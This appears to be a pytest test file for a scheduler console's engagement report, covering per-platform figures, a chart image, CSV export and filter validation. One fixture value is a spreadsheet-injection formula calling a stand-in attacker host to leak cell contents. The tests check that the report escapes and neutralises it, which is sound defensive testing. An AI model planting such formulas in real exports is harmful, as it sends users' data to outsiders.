"""Engagement: the latest figures per vignette and platform with their change, "not offered"
where a platform has no such figure, the chart, and the CSV the command line writes."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from markupsafe import escape

from scheduler.operations.showcase.engagement import engagement_report, write_csv
from scheduler.web.frontend import Frontend
from tests.web.conftest import Console, make_console
from tests.web.plan_data import (
    DECEMBER_MORNING,
    approved,
    load,
    problems,
    publish,
    record_engagement,
)

BLUESKY_TOO = {"platforms": {"bluesky": {"enabled": True}}}
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.fixture
def console(tmp_path: Path, frontend: Frontend) -> Iterator[Console]:
    made = make_console(tmp_path, frontend, sections=BLUESKY_TOO, now=DECEMBER_MORNING)
    load(made, approved("ICS-1", title=FORMULA))
    made.add_user("vera", "viewer")
    made.sign_in("vera")
    yield made
    made.ws.close()


def test_before_any_figures_the_page_says_no_engagement_yet(console: Console) -> None:
    page = console.get("/engagement").text
    assert "No vignette has been posted yet." in page
    assert "No engagement yet" in page and "/engagement/chart.png" not in page
    assert console.get("/engagement/chart.png").status_code == 404
    assert console.get("/engagement.csv").text.count("\r\n") == 1  # the header alone


def test_the_latest_figures_show_their_change_and_what_is_not_offered(console: Console) -> None:
    publish(console)
    record_engagement(
        console, "x", {"impressions": 1200, "likes": 10}, {"impressions": 1500, "likes": 14}
    )
    record_engagement(console, "bluesky", {"likes": 3, "reposts": 1})

    page = console.get("/engagement").text

    assert "1,500 (+300)" in page and "14 (+4)" in page and "2d" in page
    bluesky = page.split('aria-hidden="true">Platform </span>Bluesky', 1)[1].split("</tr>")[0]
    assert "not offered" in bluesky  # Bluesky has no impressions figure at all
    assert str(escape(FORMULA)) in page  # the title, as text


def test_the_chart_is_a_png_served_from_the_console(console: Console) -> None:
    publish(console)
    record_engagement(console, "x", {"impressions": 1200, "likes": 10})
    page = console.get("/engagement").text
    assert 'src="/engagement/chart.png"' in page

    chart = console.get("/engagement/chart.png")

    assert chart.mimetype == "image/png" and chart.data.startswith(b"\x89PNG")
    assert chart.headers["Cache-Control"] == "private, max-age=300"


def test_the_csv_download_is_the_command_s_csv(console: Console, tmp_path: Path) -> None:
    publish(console)
    record_engagement(console, "x", {"impressions": 1200, "likes": 10}, {"impressions": 1500})
    write_csv(engagement_report(console.ws), tmp_path / "cli.csv")

    download = console.get("/engagement.csv")

    assert download.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        download.headers["Content-Disposition"]
        == 'attachment; filename="engagement-2026-12-01.csv"'
    )
    assert download.data == (tmp_path / "cli.csv").read_bytes()
    rows = list(csv.DictReader(io.StringIO(download.text)))
    assert [r["impressions"] for r in rows] == ["1200", "1500"]
    assert rows[0]["title"] == "'" + FORMULA  # a spreadsheet reads it as text


def test_filters_narrow_the_report_and_a_bad_one_is_named(console: Console) -> None:
    publish(console)
    record_engagement(console, "x", {"impressions": 1200})
    record_engagement(console, "bluesky", {"likes": 3})
    only_x = console.get("/engagement?platform=x").text
    assert "1,200" in only_x and "not offered" not in only_x
    assert "/engagement.csv?platform=x" in only_x
    assert (
        "No vignette has been posted that matches yet."
        in console.get("/engagement?since=2027-01").text
    )

    bad = console.get("/engagement?since=soon&platform=myspace")

    assert bad.status_code == 400
    assert problems(bad.text) == [
        "Enter a month like 2026-01, or leave it empty",
        "Select a platform from the list",
    ]
